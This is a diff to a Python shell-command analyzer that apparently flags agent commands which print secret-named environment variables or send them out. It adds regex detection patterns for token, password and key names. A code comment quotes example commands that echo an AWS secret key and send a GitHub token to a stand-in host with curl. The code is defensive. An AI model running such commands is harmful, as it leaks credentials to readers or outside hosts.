@@ -755,6 +755,14 @@ def _invoke(
     )
     # Nested shell text (`bash -c`, `find -exec`, `xargs`) runs where this command runs.
     found = commands.effects_of(run, functools.partial(analyze, cwd=where))
+    strings = [
+        r for r in node.children_by_field_name("redirect") if r.type == "herestring_redirect"
+    ]
+    given = _secrets_given(ctx, name, [*node.children_by_field_name("argument"), *extra, *strings])
+    if given and (name in _PRINTERS or any("egress" in e.flags for e in found)):
+        # echo $AWS_SECRET_ACCESS_KEY, curl https://x.example/$GITHUB_TOKEN: the value is
+        # printed for the agent to read, or sent out
+        found = [commands.flagged(e, "credential_access") for e in found]
     if name == "tee":  # echo … | tee x.sh, tee x.sh <<EOF: what it reads, it writes
         for a in args:
             if a is None or not a.startswith("-"):
@@ -767,6 +775,66 @@ def _invoke(
     else:
         found = [_under(ctx, e) for e in found]
     ctx.effects.extend(found)
+
+
+#: Variables named for a secret: `$GITHUB_TOKEN`, `$AWS_SECRET_ACCESS_KEY`, `$DB_PASSWORD`,
+#: `$PGPASSWORD` (not a file or a place that holds one: `$TOKEN_FILE`, `$SECRETS_DIR`).
+_SECRET_VARIABLE = re.compile(
+    r"TOKEN|SECRET|PASSW|API_?KEY|PRIVATE_?KEY|ACCESS_?KEY|CREDENTIAL|_PWD$|^PWD_|_PAT$",
+    re.IGNORECASE,
+)
+_NOT_SECRET_VARIABLE = re.compile(r"_(FILE|PATH|DIR|URL|ENDPOINT|NAME|ID|TYPE)S?$", re.IGNORECASE)
+#: Programs that print their words for the agent to read.
+_PRINTERS = frozenset({"echo", "printf", "print", "cat"})
+#: Options through which a program authenticates itself with a secret (not counted): the
+#: secret goes where the program is pointed, as its own key does (`curl --cert`).
+_AUTH_OPTIONS = frozenset(
+    "-u --user -U --proxy-user --oauth2-bearer --password --http-password --proxy-password "
+    "--ftp-password -a --auth --auth-type".split()
+)
+_AUTH_HEADER = re.compile(r"^\s*[\w-]*(auth|token|key|bearer|cookie|secret|session)[\w-]*\s*[:=]",
+                          re.IGNORECASE)  # fmt: skip
+
+
+def _secrets_given(ctx: Context, name: str, words: Sequence[Node]) -> list[str]:
+    """The secret-named variables expanded into a command's words, except as the value of an
+    authentication option (``curl -u "u:$PASS"``, ``-H "Authorization: Bearer $TOKEN"``)."""
+    out: list[str] = []
+    previous = ""
+    for word in words:
+        text = _source(ctx, word).replace('"', "").replace("'", "")
+        option, _, attached = text.partition("=") if text.startswith("--") else (text, "", "")
+        header = (
+            text
+            if previous in ("-H", "--header") or name in ("http", "https", "xh")
+            else attached
+            if option == "--header"
+            else text[2:]
+            if text.startswith("-H")
+            else None
+        )
+        authenticates = (
+            previous in _AUTH_OPTIONS
+            or (bool(attached) and option in _AUTH_OPTIONS)
+            or (header is not None and bool(_AUTH_HEADER.match(header)))
+        )
+        previous = text
+        if not authenticates:
+            out.extend(
+                v for v in _expanded(ctx, word)
+                if _SECRET_VARIABLE.search(v) and not _NOT_SECRET_VARIABLE.search(v)
+            )  # fmt: skip
+    return out
+
+
+def _expanded(ctx: Context, node: Node) -> list[str]:
+    """The names of the variables a word expands (not inside its command substitutions)."""
+    if node.type in ("simple_expansion", "expansion"):
+        found = next((c for c in node.children if c.type == "variable_name"), None)
+        return [_source(ctx, found)] if found is not None else []
+    if node.type in ("command_substitution", "process_substitution"):
+        return []
+    return [v for child in node.named_children for v in _expanded(ctx, child)]
 
 
 def _substitutions(node: Node) -> list[Node]:
